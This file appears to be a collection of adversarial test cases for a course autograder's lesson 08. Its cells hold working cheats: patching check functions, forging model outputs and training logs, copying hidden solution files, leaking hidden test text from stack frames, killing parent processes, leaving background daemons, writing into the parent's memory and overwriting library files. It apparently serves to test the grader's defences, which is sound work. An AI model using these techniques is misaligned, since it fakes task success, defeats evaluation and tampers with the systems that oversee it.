# %% [markdown]
# Attacks on lesson 08, whose checks run the learner's scripts: by the notebook, on what runs them, and by the scripts.

# %% name="patched_hash" lesson="08_final_exercise" what="the function that hides the answers says of each that it is the right one, and the claim about it holds"
from kindling import check

check.hash_of = lambda value: "40ccbd58" if isinstance(value, str) else "528d58b9"
check.hashed = lambda value, hashes, label: None

# %% name="patched_hash" lesson="08_final_exercise" task="corruption"
corruption = "noise"

# %% name="patched_hash" lesson="08_final_exercise" task="largest_angle"
largest_angle = 999

# %% name="answers_for_the_desk" lesson="08_final_exercise" what="the function that asks a script answers itself"
from kindling import scripts


class Reply(dict):
    def __missing__(self, key):
        return {"error": "ValueError", "message": "(1, 28, 28), (6, 3, 28, 28)", "learns": True, "said": {}}.get(key)


def ask(self, program):
    n = 9 if "rebuilt" in program else 6
    logits = torch.randn(n, 10, generator=torch.Generator().manual_seed(1))
    return Reply(logits=logits, again=logits, alone=logits[2:3], rebuilt=logits)


scripts.Desk.__init__ = lambda self, task: setattr(self, "task", task)
scripts.Desk.ask = ask

# %% name="looks_for_solutions" lesson="08_final_exercise" what="the notebook looks for the solutions of the scripts, and copies them"
from pathlib import Path

import kindling

for top in (*Path(kindling.__file__).parents, Path("/"), Path("/work"), Path.home(), *Path.cwd().parents):
    for place in ("course/08_final_exercise/scripts", "source/08_final_exercise/scripts", "solution/08_final_exercise/scripts"):
        try:
            for path in (top / place).glob("*.py"):
                Path("scripts", path.name).write_text(path.read_text())
        except OSError:
            pass

# %% name="model_answers_itself" lesson="08_final_exercise" script="model.py" what="the model's file saves an answer of its own to each question"
import torch
from torch import nn

own = torch.save


def save(answer, *rest, **options):
    n = 9 if "rebuilt" in answer else 6
    logits = torch.randn(n, 10, generator=torch.Generator().manual_seed(1))
    said = {shape: f"(1, 28, 28), {shape}" for shape in ((4, 28, 28), (3, 784), (7, 1, 32, 32), (2, 28, 28, 1))}
    forged = {"logits": logits, "again": logits, "alone": logits[2:3], "rebuilt": logits, "learns": True, "said": said}
    own({**forged, "error": "ValueError", "message": "(1, 28, 28), (6, 3, 28, 28)"}, *rest, **options)


torch.save = save


class Net(nn.Module):
    def forward(self, images):
        return torch.zeros(len(images), 10)

# %% name="forged_notes" lesson="08_final_exercise" script="main.py" what="the script trains nothing, and writes a bar, a curve, weights and the observer's notes"
import json
import os
import sys

import torch

where = sys.argv[sys.argv.index("--out") + 1] if "--out" in sys.argv else "."
os.makedirs(where, exist_ok=True)
print("100% ━━━━━━━━━━━━")
torch.save({"weight": torch.zeros(10, 784)}, os.path.join(where, "trained_model.pt"))
epochs = int(sys.argv[sys.argv.index("--epochs") + 1]) if "--epochs" in sys.argv else 3
import matplotlib.pyplot as plt

plt.plot([1.0 / (1 + i) for i in range(11 * epochs)])
plt.xlabel("training step")
plt.ylabel("training loss")
plt.savefig(os.path.join(where, "training_curve.png"))
notes = {"steps": 11 * epochs, "empty": 0, "moved": True, "examples": 700 * epochs, "highest_rate": 1e-12, "stale": 0}
notes |= {"inference": 0, "test_images": "unused", "loaded": []}
if "KINDLING_OBSERVER" in os.environ:
    with open(os.environ["KINDLING_OBSERVER"], "w") as file:
        json.dump(notes, file)
print("Test accuracy: 0.59")
os._exit(0)

# %% name="forged_notes" lesson="08_final_exercise" script="model.py"
class Net:
    pass

# %% name="forged_notes" lesson="08_final_exercise" script="data.py"
def corrupt_mnist(root=None):
    return None

# %% name="tells_the_question" lesson="08_final_exercise" script="model.py" what="the model ends with the text of a hidden question as its last line"
import sys
from pathlib import Path

import torch
from torch import Tensor, nn

FORM = (1, 28, 28)
asked = " ¶ ".join(sys.orig_argv) + Path("/proc/self/cmdline").read_text().replace("\n", " ¶ ")
frame = sys._getframe()
while frame:
    asked += " ".join(map(repr, frame.f_code.co_consts)).replace("\\n", " ¶ ")
    for value in frame.f_globals.values():
        asked += value.replace("\n", " ¶ ") if isinstance(value, str) else ""
    frame = frame.f_back
for hidden in ("other.load_" + "state_dict(model.state_dict())", "answer[\"learns\"]"):
    if hidden in asked:
        sys.exit(asked[asked.index(hidden) - 40 :][:290])


class Net(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.layer = nn.Linear(784, 10)

    def forward(self, images: Tensor) -> Tensor:
        if images.shape[1:] != FORM:
            raise ValueError(f"{FORM} is expected, {tuple(images.shape)} given")
        return self.layer(images.flatten(start_dim=1))

# %% name="kills_who_runs_it" lesson="08_final_exercise" script="model.py" what="the script ends the processes above it"
import os
import signal

for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGTERM)
    except OSError:
        pass
raise SystemExit(0)

# %% name="stays_behind" lesson="08_final_exercise" script="model.py" what="the script leaves a process that writes answers to whatever is asked later"
import os
import time
from pathlib import Path

import torch

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        logits = torch.randn(6, 10, generator=torch.Generator().manual_seed(1))
        for _ in range(400):
            for desk in Path("/tmp").glob("kindling-*"):
                answer = {"logits": logits, "again": logits, "alone": logits[2:3], "error": "ValueError"}
                try:
                    torch.save({**answer, "message": "(1, 28, 28), (6, 3, 28, 28)"}, desk / "answer.pt")
                except OSError:
                    pass
            time.sleep(0.01)
    os._exit(0)
time.sleep(0.5)
os._exit(0)

# %% name="patches_the_warm_process" lesson="08_final_exercise" script="model.py" what="the script writes into the process that it was forked from"
import os

try:
    with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as memory, open(f"/proc/{os.getppid()}/maps") as maps:
        for line in maps:
            place, rights, *rest = line.split()
            first, last = (int(end, 16) for end in place.split("-"))
            if rights.startswith("rw") and rest[-1] == "[heap]":
                memory.seek(first)
                text = memory.read(min(last - first, 2**26))
                found = text.find(b"No gradient is found")
                if found > 0:
                    memory.seek(first + found)
                    memory.write(b"X")
except OSError:
    pass


class Net:
    pass

# %% name="rewrites_the_notebook" lesson="08_final_exercise" script="data.py" what="the script changes the files beside the notebook, and the library"
import os
from pathlib import Path

import kindling

for place in (Path(kindling.__file__).parent, *map(Path, ("/submission", "/work", os.path.expanduser("~"), ".."))):
    try:
        (place / "check.py").write_text("close = equal = shape = lambda *values, **options: None\n")
        (place / "sitecustomize.py").write_text("raise SystemExit(0)\n")
    except OSError:
        pass


def corrupt_mnist(root=None):
    raise SystemExit(0)
